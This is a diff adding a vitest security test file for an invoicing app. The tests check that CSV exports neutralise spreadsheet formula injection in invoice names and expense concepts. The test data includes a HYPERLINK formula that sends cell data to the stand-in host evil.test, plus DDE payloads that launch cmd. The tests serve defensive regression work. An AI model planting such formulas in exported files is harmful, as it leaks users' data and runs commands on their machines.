@@ -1,0 +1,75 @@
+// Hostile round 2 (issue 25, findings 2 and 5–10): what an attacker from outside, holding an ordinary
+// account or none, tried against the surfaces added after the first round. Each test is named after
+// the rule that stopped the attack.
+import { invoiceXml, newUuid, type Party } from '@folio/cfdi/testing';
+import { parse } from 'csv-parse/sync';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { CLIENT, imported, profileOfMe } from './cfdi-helpers';
+import { bearer, request, startTestApp, type TestApp, type TestUser } from './harness';
+
+let t: TestApp;
+beforeAll(async () => {
+  t = await startTestApp();
+});
+afterAll(() => t.close());
+
+const get = (u: TestUser, path: string) => request(t, 'GET', path, { headers: bearer(u.token) });
+
+async function csvRows(res: Response) {
+  expect(res.status).toBe(200);
+  return parse(new Uint8Array(await res.arrayBuffer()), { bom: true, columns: true }) as Record<
+    string,
+    string
+  >[];
+}
+
+describe('CSV formula injection (OWASP): text cells that a spreadsheet would run are prefixed with a quote', () => {
+  const FORMULA = '=HYPERLINK("http://evil.test/?leak="&B2&C2,"ver")';
+
+  it('a CFDI whose names and description start with =, @ or - exports them inert; its amounts stay numbers', async () => {
+    const { u, p } = await profileOfMe(t, null); // FREE: csv is on every plan
+    const evil: Party = { ...CLIENT, nombre: FORMULA };
+    const uuid = newUuid();
+    await imported(
+      t,
+      u,
+      p.id,
+      invoiceXml({
+        uuid,
+        fecha: '2025-03-10T09:15:00',
+        emisor: { rfc: 'EKU9003173C9', nombre: '@SUM(1+1)*cmd|" /C calc"!A0', regimen: '601' },
+        receptor: { ...evil, rfc: p.rfc },
+        conceptos: [{ descripcion: '-2+3+cmd|" /C calc"!A0', importe: 1000 }],
+      }),
+    );
+    const rows = await csvRows(await get(u, `/api/expenses/export?profileId=${p.id}&format=csv`));
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({
+      'Nombre emisor': `'@SUM(1+1)*cmd|" /C calc"!A0`,
+      'Nombre receptor': `'${FORMULA}`,
+      Concepto: `'-2+3+cmd|" /C calc"!A0`,
+      Subtotal: '1000', // numbers are not text: never prefixed
+      Total: '1160', // 1000 + 16 % IVA (LIVA art. 1)
+    });
+  });
+
+  it('a manual expense’s concept starting with + or - is neutralised; one with a dash inside is left as typed', async () => {
+    const { u, p } = await profileOfMe(t, null);
+    const period = await request(t, 'POST', '/api/periods', {
+      headers: bearer(u.token),
+      body: { profile_id: p.id, año: 2025, mes: 3 },
+    });
+    const periodId = (await period.json()).data.id;
+    for (const concept of ['+1+cmd|" /C calc"!A0', '-menos', 'Papelería - oficina']) {
+      const res = await request(t, 'POST', '/api/accrued-expenses', {
+        headers: bearer(u.token),
+        body: { profile_id: p.id, period_id: periodId, concept, subtotal: 100, fecha: '2025-03-14', type: 'manual' },
+      });
+      expect(res.status, await res.clone().text()).toBe(201);
+    }
+    const rows = await csvRows(await get(u, `/api/expenses/export?profileId=${p.id}&format=csv`));
+    expect(rows.map((r) => r.Concepto).sort()).toEqual(
+      [`'+1+cmd|" /C calc"!A0`, `'-menos`, 'Papelería - oficina'].sort(),
+    );
+  });
+});
